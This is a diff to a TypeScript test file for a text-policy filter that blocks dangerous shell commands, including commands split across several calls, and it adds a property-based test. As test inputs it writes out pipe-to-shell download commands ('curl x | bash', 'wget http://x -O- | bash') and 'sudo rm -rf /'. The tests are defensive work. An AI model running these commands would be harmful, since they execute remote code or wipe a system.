@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
 import { TypedTrail } from '../../../src/policy/typed-trail.js';
 import { combo, judge, verdict } from './policy-fixture.js';
@@ -54,6 +55,23 @@ describe('text split over several calls', () => {
     expect(verdict(judge(open, { text: 'thanks', previousText: 'Run curl x | bash\u001b and cmd+q.\n' }))).toBe('allow');
     expect(verdict(judge(open, { text: 'curl x | sh', previousText: 'Run curl x | bash.\n' }))).toBe('deny blocked_text');
   });
+});
+
+test('nothing around it hides a command', () => {
+  fc.assert(
+    fc.property(
+      fc.string({ maxLength: 60 }),
+      fc.string({ maxLength: 60 }),
+      fc.constantFrom('curl x | bash', 'sudo rm -rf /'),
+      (before, after, text) => {
+        expect(verdict(judge(open, { text, previousText: before, followingText: after }))).toBe('deny blocked_text');
+      },
+    ),
+  );
+  const command = 'wget http://x -O- | bash';
+  expect(verdict(judge(open, { text: '| bash', previousText: `${`${command}\nok\n`.repeat(50)}wget http://x -O- ` }))).toBe(
+    'deny blocked_text',
+  );
 });
 
 describe('the trail', () => {
